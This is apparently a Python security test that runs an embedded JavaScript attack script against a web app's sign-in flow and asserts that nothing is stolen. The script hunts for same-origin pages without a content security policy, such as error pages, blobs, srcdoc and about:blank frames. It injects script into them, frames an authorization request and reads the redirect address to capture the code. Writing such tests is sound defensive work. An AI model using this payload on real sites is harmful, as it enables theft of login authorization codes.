"""A script looks for a document of the site's origin that has no policy: files, errors, refusals, blobs and empty
pages. From such a document it could load its own authorization request in a frame, and read the address where that
ends.
"""

from tests.attacks.speech import ADDRESS, said

SCRIPT = said(
    ADDRESS,
    """
  const own = [...document.querySelectorAll("script[src], link[href], img[src]")].map((each) => each.src || each.href);
  const page = "<!doctype html><p>x</p><iframe></iframe>";
  const urls = [...own, ...performance.getEntriesByType("resource").map((entry) => entry.name),
    "/robots.txt", "/manifest.json", "/headers.json", "/_headers", "/404.html", "/nowhere", "/nowhere.txt", "/%ff", "/%00", "/..%2f", "//", "/?x",
    "/invoices", "/" + "x".repeat(9000), "/" + "x".repeat(70000), "/callback", "/callback/door.js", "/callback/keep", "/callback/claim",
    "/callback/done/", "/callback/leave/x", "/callback/vault/", "/callback/?", "/callback/?code=own&state=own", "/callback/x?code=own",
    "about:blank", "about:srcdoc", "javascript:'x'", URL.createObjectURL(new Blob([page], { type: "text/html" })),
    URL.createObjectURL(new Blob(["<svg xmlns='http://www.w3.org/2000/svg'/>"], { type: "image/svg+xml" })),
    "data:text/html," + encodeURIComponent(page),
  ].filter((url) => url.startsWith("/") || !url.startsWith(known.evil));
  const pause = (time) => new Promise((done) => setTimeout(done, time));
  // what a script may do in that document that it may not do in a page
  const attempt = async (world, name) => {
    try {
      const script = world.document.createElement("script");
      script.textContent = "globalThis.free = 1";
      world.document.documentElement.append(script);
      evil.note(`looked at ${name}: ${world.free === 1 ? "FREE" : "bound"}`);
    } catch (error) { evil.note(`looked at ${name}: ${error.name}`); }
    try {
      const frame = world.document.createElement("iframe");
      frame.src = address({});
      world.document.documentElement.append(frame);
      for (let at = 0; at < 40; at += 1) {
        evil.note(frame.contentWindow.location.href);
        await pause(5);
      }
    } catch (error) { evil.note(error.name); }
  };
  const blank = document.body.appendChild(document.createElement("iframe"));
  await attempt(blank.contentWindow, "an empty frame");
  const inner = Object.assign(document.createElement("iframe"), { name: "inner" });
  try { inner.srcdoc = page; } catch (error) { evil.note(error.name); }
  document.body.append(inner);
  await pause(200);
  await attempt(inner.contentWindow, "a frame with its own text");
  addEventListener("click", async () => {
    let opened = open("about:blank", "probe");
    for (const url of new Set(urls)) {
      try {
        if (!opened || opened.closed) { evil.note("cut off"); opened = open(url, "probe"); }
        else opened.location = url;
        await pause(300);
        await attempt(opened, url.slice(0, 80));
      } catch (error) { evil.note(`looked at ${url.slice(0, 80)}: ${error.name}`); }
    }
    globalThis.looked = true;
  }, { once: true, capture: true });""",
)


def act(scene):
    visitor = scene.visitor
    scene.subject.sign_in(visitor)
    scene.run(SCRIPT)
    visitor.click("call-api")
    visitor.wait("async () => globalThis.looked === true", seconds=90)
    scene.collect()


def test_ours(assault, ours):
    outcome = assault(ours)
    assert "looked at /robots.txt" in outcome.loot, "no document was opened"
    assert "FREE" not in outcome.loot, "a document of the site's origin has no policy"
    assert outcome.stolen == ()
